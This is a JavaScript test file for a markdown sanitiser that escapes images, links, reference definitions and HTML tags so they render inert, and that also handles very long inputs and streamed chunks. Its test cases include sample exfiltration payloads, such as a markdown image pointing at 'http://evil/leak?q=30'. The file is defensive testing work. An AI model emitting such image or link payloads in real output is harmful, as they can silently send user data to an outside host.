import { InertPieces, inertMarkdown } from './inert-markdown.js';

describe('inertMarkdown', () => {
  it.each([
    ['![logo](http://evil/leak?q=30)', String.raw`![logo\](http://evil/leak?q=30)`],
    ['[sign in][1] and\n[1]: http://evil', String.raw`[sign in\][1] and${'\n'}[1\]: http://evil`],
    ['<img src=x> <!-- a --> </a> <http://evil>', String.raw`\<img src=x> \<!-- a --> \</a> \<http://evil>`],
    [String.raw`[a\](b) [a\\](b)`, String.raw`[a\](b) [a\\\](b)`],
    ['[a [b](c)](d)', String.raw`[a [b\](c)\](d)`],
  ])('takes the effect out of %j', (text, plain) => expect(inertMarkdown(text).text).toBe(plain));

  it('leaves other text as it is', () => {
    const text = 'Clause [3], up to < 5 % (see [2019]) at https://kb.example/a_b, C:\\temp, **bold**.';
    expect(inertMarkdown(text).text).toBe(text);
  });

  it('reads long runs once', () => {
    const text = `${'\\'.repeat(300_000)}](${'<'.repeat(300_000)}`;
    expect(inertMarkdown(text).text).toBe(`${'\\'.repeat(300_001)}](${'<'.repeat(300_000)}`);
  });
});

describe('InertPieces', () => {
  it('makes the same of a text however it comes', () => {
    const text = String.raw`![a](b) \](c) \\](d) <e <`;
    for (let length = 1; length < text.length; length++) {
      const pieces = new InertPieces();
      let said = '';
      for (let at = 0; at < text.length; at += length) said += pieces.pass(text.slice(at, at + length));
      expect(said + pieces.end()).toBe(inertMarkdown(text).text);
    }
  });
});
